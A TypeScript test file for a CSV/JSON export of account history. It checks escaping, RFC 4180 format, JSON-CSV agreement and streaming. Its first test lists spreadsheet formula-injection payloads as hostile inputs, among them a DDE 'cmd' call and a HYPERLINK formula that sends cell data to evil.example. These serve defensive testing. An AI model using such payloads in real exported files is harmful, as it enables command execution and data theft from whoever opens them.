import assert from 'node:assert/strict'
import { test } from 'node:test'
import { cell, historyCsv, historyJson } from './export-history.ts'
import type { HistoryLine } from './history-line.ts'

const line: HistoryLine = {
  position: 48_112,
  at: Date.UTC(2026, 10, 24, 8, 47, 35, 120),
  kind: 'token-created',
  group: 'tokens',
  weight: 'usual',
  flag: null,
  sentence: 'The token "ci" was created.',
  parts: [],
  by: null,
  device: 'Firefox on Linux',
  network: '192.0.2.0/24',
  factor: null,
  credential: 'session 1f2e3d4c',
  isSecurity: true,
  outcome: 'done',
  details: 'open',
}

async function textOf(chunks: AsyncIterable<string>): Promise<string> {
  let text = ''
  for await (const chunk of chunks) text += chunk
  return text
}

/** A strict reader of RFC 4180. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  for (const [match, quoted, bare, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy)) {
    assert.ok(match)
    row.push(quoted === undefined ? bare! : quoted.replaceAll('""', '"'))
    if (end !== '\r\n') continue
    rows.push(row)
    row = []
  }
  assert.equal(row.length, 0)
  return rows
}

test('no cell begins as a formula', () => {
  const formulas = [
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '\ufeff=1',
    '\u0000=1',
    '|calc',
    '%0A',
    '\uff1d1',
    '\uff0b1',
    '\uff0d1',
    '\uff20x',
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
  ]
  for (const text of formulas) assert.match(cell(text), /^"'/, JSON.stringify(text))
  for (const text of ['', 'a=1', "'=1", '192.0.2.0/24', '2026-11-24', 'a\tb', 'x-1']) assert.equal(cell(text), `"${text}"`)
})

test('quotation marks, commas and line breaks stay inside their cell', async () => {
  const hostile = ['a"b', '",=1,"', 'a,b', 'a\r\nb', '"', '""', ';=1', '\u001b[31m']
  const lines = hostile.map((sentence, position) => ({ ...line, sentence, position }))
  const rows = parseCsv(await textOf(historyCsv(lines)))
  assert.deepEqual(
    rows.slice(1).map((row) => row[1]),
    hostile,
  )
  assert.deepEqual([...new Set(rows.map((row) => row.length))], [12])
})

test('CSV begins with its header and not with a byte order mark, and each line ends with CR and LF', async () => {
  const text = await textOf(historyCsv([line]))
  assert.equal(
    text,
    'time,what,outcome,by,device,network,factor,credential,group,kind,details,position\r\n' +
      '"2026-11-24T08:47:35.120Z","The token ""ci"" was created.","done",,"Firefox on Linux","192.0.2.0/24",,"session 1f2e3d4c","tokens","token-created","open",48112\r\n',
  )
})

test('JSON of no, one and many lines can be read, and says the same as CSV', async () => {
  for (const count of [0, 1, 3]) {
    const lines = Array.from({ length: count }, (_, position) => ({ ...line, position }))
    const read = JSON.parse(await textOf(historyJson(lines)))
    assert.equal(read.length, count)
    const rows = parseCsv(await textOf(historyCsv(lines)))
    for (const [at, each] of read.entries()) {
      assert.deepEqual(Object.keys(each), rows[0])
      assert.deepEqual(
        Object.values(each).map((value) => (value === null ? '' : String(value))),
        rows[at + 1],
      )
    }
  }
})

test('an export goes on only as fast as it is read, and ends its source where the reader leaves', async () => {
  let made = 0
  let isEnded = false
  async function* endless() {
    try {
      while (true) yield { ...line, position: ++made }
    } finally {
      isEnded = true
    }
  }
  for (const lines of [historyCsv(endless()), historyJson(endless())]) {
    made = 0
    isEnded = false
    for (let read = 0; read < 5; read++) await lines.next()
    assert.ok(made <= 5)
    await lines.return(undefined)
    assert.ok(isEnded)
  }
})
